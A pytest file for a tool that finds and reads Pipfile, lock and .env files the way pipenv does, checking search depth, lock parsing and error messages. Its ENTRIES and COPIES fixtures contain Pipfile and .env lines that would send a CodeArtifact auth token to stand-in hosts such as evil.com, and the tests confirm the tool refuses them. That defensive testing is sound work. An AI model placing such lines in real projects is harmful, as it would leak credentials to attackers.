"""Finding and reading Pipfile, lock and .env as pipenv does."""

from __future__ import annotations

import copy
import io
import json
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import pytest
import tomlkit
from hypothesis import given
from hypothesis import strategies as st
from pipenv.vendor.plette import Lockfile
from support.programs import PIPENV, run
from support.projects import PYPI_SOURCE, write_pipfile

from codeartifact_pipenv.errors import ConfigurationError
from codeartifact_pipenv.project.lock import format_lock, lock_with_sources_at
from codeartifact_pipenv.project.pipfile import Project, load_project, parse_lock, read_lock

TOKEN = "CODEARTIFACT_AUTH_TOKEN"
HOST = "my-dom-123456789012.d.codeartifact.eu-west-1.amazonaws.com"
URL = f"https://aws:${{{TOKEN}}}@{HOST}/pypi/team/simple/"
SOURCE = f'[[source]]\nurl = "{URL}"\nverify_ssl = true\nname = "codeartifact"\n'


def load(directory: Path, **environ: str) -> Project:
    return load_project(environ, str(directory), lambda: None)


def refusal(directory: Path, **environ: str) -> str:
    with pytest.raises(ConfigurationError) as caught:
        load(directory, **environ).sources()
    assert caught.value.hint
    return caught.value.sentence


def nested(folder: Path, levels: int) -> Path:
    below = folder.joinpath(*(f"d{number}" for number in range(levels)))
    below.mkdir(parents=True, exist_ok=True)
    return below


@pytest.mark.wide
def test_pipfile_is_found_where_pipenv_finds_it(clean_env: dict[str, str], project: Path) -> None:
    write_pipfile(project, PYPI_SOURCE)
    elsewhere = project.parent / "elsewhere"
    elsewhere.mkdir()
    write_pipfile(elsewhere, PYPI_SOURCE)
    cases: list[tuple[int, dict[str, str]]] = [
        *((levels, {}) for levels in (0, 9, 10)),
        *((levels, {"PIPENV_MAX_DEPTH": "2"}) for levels in (1, 2)),
        *((levels, {"PIPENV_NO_INHERIT": "1"}) for levels in (0, 1)),
        (1, {"PIPENV_NO_INHERIT": "true", "PIPENV_MAX_DEPTH": "5"}),
        (1, {"PIPENV_PIPFILE": str(elsewhere / "Pipfile")}),
        (1, {"PIPENV_PIPFILE": "../../elsewhere/Pipfile"}),
    ]

    def compare(case: tuple[int, dict[str, str]]) -> tuple[object, str | None, str | None]:
        levels, variables = case
        below = nested(project, levels)
        # pipenv wraps paths at the width of the terminal.
        env = clean_env | {"COLUMNS": "1000", **variables}
        mine = load(below, **variables)
        theirs = run(PIPENV, "--where", env=env, cwd=below).stdout.strip() or None
        return case, mine.directory if mine.pipfile else None, theirs

    with ThreadPoolExecutor(max_workers=4) as pool:
        found = list(pool.map(compare, cases))
    assert [case for case, mine, theirs in found if mine != theirs] == []
    assert [theirs for _, _, theirs in found].count(str(project)) == 4
    assert [theirs for _, _, theirs in found].count(str(elsewhere)) == 2


@pytest.mark.parametrize(("version", "most"), [("2024.0.0", 3), ("2024.0.3", 10), (None, 10)])
def test_the_search_depth_is_that_of_the_pipenv_version(
    tmp_path: Path, version: str | None, most: int
) -> None:
    path = write_pipfile(tmp_path, SOURCE)

    def found(levels: int, **environ: str) -> str | None:
        return load_project(environ, str(nested(tmp_path, levels)), lambda: version).pipfile

    assert [found(most - 1), found(most)] == [str(path), None]
    assert found(4, PIPENV_MAX_DEPTH="5") == str(path)


def test_the_nearest_pipfile_is_used_and_a_folder_is_ignored(tmp_path: Path) -> None:
    below = nested(tmp_path, 2)
    (below / "Pipfile").mkdir()
    near = write_pipfile(below.parent, PYPI_SOURCE)
    write_pipfile(tmp_path, SOURCE)
    assert load(below).pipfile == str(near)


def test_sources_of_pipfile_and_lock_are_merged_by_url(tmp_path: Path) -> None:
    write_pipfile(tmp_path, PYPI_SOURCE, SOURCE).rename(tmp_path / "Pipfile.ci")
    path, locked = tmp_path / "Pipfile.ci", URL.replace("/team/", "/other/")
    sources = [{"name": "a", "url": URL}, {"name": "b", "url": locked}]
    (tmp_path / "Pipfile.ci.lock").write_text(json.dumps({"_meta": {"sources": sources}}))
    found = load(tmp_path, PIPENV_PIPFILE="Pipfile.ci").sources()
    assert [(s.name, s.url, s.origin) for s in found] == [
        ("pypi", "https://pypi.org/simple", str(path)),
        ("codeartifact", URL, str(path)),
        ("b", locked, f"{path}.lock"),
    ]
    assert [s.endpoint.repository for s in found if s.endpoint] == ["team", "other"]


@pytest.mark.parametrize(
    "content",
    [b"", b'{"_meta": []}', b'{"_meta": {"sources": {}}}', b"<<<<<<< HEAD\n{}"],
)
def test_a_lock_that_pipenv_replaces_is_ignored(tmp_path: Path, content: bytes) -> None:
    write_pipfile(tmp_path, SOURCE)
    (tmp_path / "Pipfile.lock").write_bytes(content)
    assert [source.url for source in load(tmp_path).sources()] == [URL]


UNREADABLE = {
    "it is not UTF-8": b"\xff\xfe",
    "it is nested too deeply": b"[" * 100_000,
    "nested too deeply": b'{"_meta": {"sources": []}, "default": %s}' % (b"[" * 600 + b"]" * 600),
    "a number with too many digits": b'{"_meta": %s}' % (b"9" * 9_999),
    "half of a surrogate pair": b'{"_meta": {"sources": [{"url": "${\\ud800}"}]}}',
    "it is not a JSON object": b"[]",
    "not a JSON object": b"null",
}


@pytest.mark.parametrize("reason", UNREADABLE)
def test_a_lock_that_crashes_pipenv_is_an_error_with_a_reason(tmp_path: Path, reason: str) -> None:
    write_pipfile(tmp_path, SOURCE)
    (tmp_path / "Pipfile.lock").write_bytes(UNREADABLE[reason])
    sentence = refusal(tmp_path)
    assert "Pipfile.lock cannot be read: " in sentence
    assert reason in sentence


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ('[packages]\nsix = "*"\nsix = "*"\n', "is not valid TOML"),
        ("[packages]\n# caf\xe9\n", ", line 2: the Pipfile is not UTF-8."),
        ("[[source]]\nurl = 3\n", " has no url."),
        ('source = ["https://x"]\n', " has no url."),
    ],
)
def test_an_invalid_pipfile_is_an_error_that_names_it(tmp_path: Path, text: str, said: str) -> None:
    path = tmp_path / "Pipfile"
    path.write_text(text, encoding="latin-1")
    sentence = refusal(tmp_path)
    assert (str(path) in sentence, said in sentence) == (True, True)


def test_dotenv_overrides_the_environment(tmp_path: Path) -> None:
    write_pipfile(tmp_path, SOURCE.replace("team", "${REPO}"))
    (tmp_path / ".env").write_text("REPO=own\nEMPTY=\nNOTHING\n")
    project = load(nested(tmp_path, 2), REPO="inherited", NOTHING="stays")
    assert project.environ == {"REPO": "own", "EMPTY": "", "NOTHING": "stays"}
    assert [s.endpoint.repository for s in project.sources() if s.endpoint] == ["own"]


@pytest.mark.parametrize("word", ["1", "anything", "0", "No", ""])
def test_pipenv_dont_load_env_disables_dotenv_if_true(tmp_path: Path, word: str) -> None:
    (tmp_path / ".env").write_text("A=1\n")
    is_loaded = word in {"0", "No", ""}
    assert ("A" in load(tmp_path, PIPENV_DONT_LOAD_ENV=word).environ) is is_loaded


def test_pipenv_dotenv_location_names_a_file_that_may_set_pipenv_pipfile(tmp_path: Path) -> None:
    write_pipfile(tmp_path, PYPI_SOURCE)
    path = write_pipfile(nested(tmp_path, 1), SOURCE)
    (tmp_path / ".env").write_text("A=1\n")
    other = tmp_path / "other.env"
    assert load(tmp_path, PIPENV_DOTENV_LOCATION=str(other)).dotenv is None
    other.write_text(f"PIPENV_PIPFILE={path}\n")
    assert load(tmp_path, PIPENV_DOTENV_LOCATION=str(other)).pipfile == str(path)


SENDS = f"would send the token in {TOKEN}"
ENTRIES = {
    f'orb = {{file = "https://aws:${TOKEN}@evil.com/orb.whl"}}': SENDS,
    f'orb = {{file = "{URL.replace("my-dom", "other")}"}}': SENDS,
    f'orb = "${{{TOKEN}}}"': SENDS,
    f'orb = {{extras = ["${{{TOKEN}}}"], version = "*"}}': SENDS,
    # pip would combine these.
    f'"x @ https://evil.example/${{{TOKEN[:5]}" = "{TOKEN[5:]}}}/x.whl"': "an unfinished variable",
    f'"x @ https://evil.example/$" = "{{{TOKEN}}}/x.whl"': "an unfinished variable",
    f'x = {{version = "@ https://evil.example/${{A${{{TOKEN}}}/"}}': f"token in {TOKEN}",
}


@pytest.mark.parametrize("category", ["docs", "packages"])
@pytest.mark.parametrize("entry", ENTRIES)
def test_token_variable_in_a_package_entry_is_an_error(
    entry: str, category: str, tmp_path: Path
) -> None:
    write_pipfile(tmp_path, SOURCE, f"[{category}]\n{entry}\n")
    project = load(tmp_path)
    with pytest.raises(ConfigurationError, match=category) as caught:
        project.assign_variables(project.sources())
    assert ENTRIES[entry] in caught.value.sentence


def test_token_variable_may_be_in_scripts_and_the_password_of_a_package_url(tmp_path: Path) -> None:
    url = URL.replace("simple/", "simple/orb/1.0/orb-1.0-py3-none-any.whl")
    script = f'[scripts]\nx = "echo ${TOKEN}"\n'
    write_pipfile(tmp_path, SOURCE, f'[packages]\norb = {{file = "{url}"}}\n', script)
    project = load(tmp_path)
    assert set(project.assign_variables(project.sources())) == {TOKEN}
    assert project.scripts == {"x": f"echo ${TOKEN}"}


COPIES = [
    *(f"LEAK=x${{{TOKEN}}}", f"LEAK=${{{TOKEN}:-none}}"),
    f"PIP_EXTRA_INDEX_URL=https://aws:${{{TOKEN}}}@evil.com/",
]


@pytest.mark.parametrize("line", COPIES)
def test_dotenv_must_not_copy_the_token(tmp_path: Path, line: str) -> None:
    foreign = PYPI_SOURCE.replace("https://pypi.org", "https://aws:${LEAK}@evil.com")
    write_pipfile(tmp_path, SOURCE, foreign)
    (tmp_path / ".env").write_text(f"{line}\n")
    project = load(tmp_path)
    with pytest.raises(ConfigurationError, match="token"):
        project.assign_variables(project.sources())


def test_locks_are_formatted_and_read_as_by_pipenv(tmp_path: Path) -> None:
    hashes = {"hashes": ["sha256:2", "sha256:1"], "index": "pypi", "extras": ["b"]}
    document = {
        "docs": {"toml": {"version": "==0.10.2", **hashes}, "repo": {"git": "https://x.example"}},
        "default": {"local": {"path": "./\N{SNOWMAN}/\\\t", "editable": True}},
        "develop": {},
        "_meta": {
            "sources": [{"name": "pypi", "url": "https://pypi.org/simple", "verify_ssl": False}],
            "requires": {"python_version": "3.11"},
            "pipfile-spec": 6,
            "hash": {"sha256": "0" * 64},
        },
        "Zoo": {},
    }
    out = io.StringIO()
    Lockfile(copy.deepcopy(document)).dump(out)
    assert format_lock(document) == out.getvalue().encode()
    path = tmp_path / "Pipfile.lock"
    assert read_lock(str(path)) is None
    path.write_bytes(format_lock(document))
    assert read_lock(str(path)) == document


scalars = st.text() | st.integers(-(2**63), 2**63 - 1) | st.booleans()
scalars |= st.sampled_from(["https://x/", URL, f"${{{TOKEN}}}", "aws:${X}@", "${", "*"])
names = st.text(min_size=1) | st.sampled_from(
    ["source", "packages", "scripts", "url", "name", "file"]
)
values = st.recursive(
    scalars,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(names, inner, max_size=4),
    max_leaves=12,
)
tables = st.lists(st.fixed_dictionaries({"url": scalars, "name": values}), max_size=3)
documents = st.dictionaries(names, values, max_size=5) | st.fixed_dictionaries(
    {"source": tables, "packages": values, "scripts": values}
)


def check_read_or_refused(content: bytes, lock: bytes) -> None:
    with TemporaryDirectory() as name, suppress(ConfigurationError):
        Path(name, "Pipfile").write_bytes(content)
        Path(name, "Pipfile.lock").write_bytes(lock)
        project = load(Path(name), X="x")
        project.assign_variables(project.sources())
        assert project.scripts is not None


@given(documents, values)
def test_any_toml_document_is_read_or_refused(document: dict[str, object], sources: object) -> None:
    lock = json.dumps({"_meta": {"sources": sources}}).encode()
    check_read_or_refused(tomlkit.dumps(document).encode(), lock)


@given(st.binary() | st.text().map(str.encode), st.binary())
def test_any_bytes_are_read_or_refused(content: bytes, lock: bytes) -> None:
    check_read_or_refused(content, lock)


@given(values)
def test_other_json_is_not_a_lock(value: Any) -> None:
    for document in (value, {"_meta": value}):
        assert parse_lock(json.dumps(document).encode()) is None
    meta = {"sources": value, "hash": {"sha256": ""}}
    lock = parse_lock(json.dumps({"_meta": meta}).encode())
    assert lock is None or lock_with_sources_at(lock, "http://127.0.0.1:4711/simple", "1")
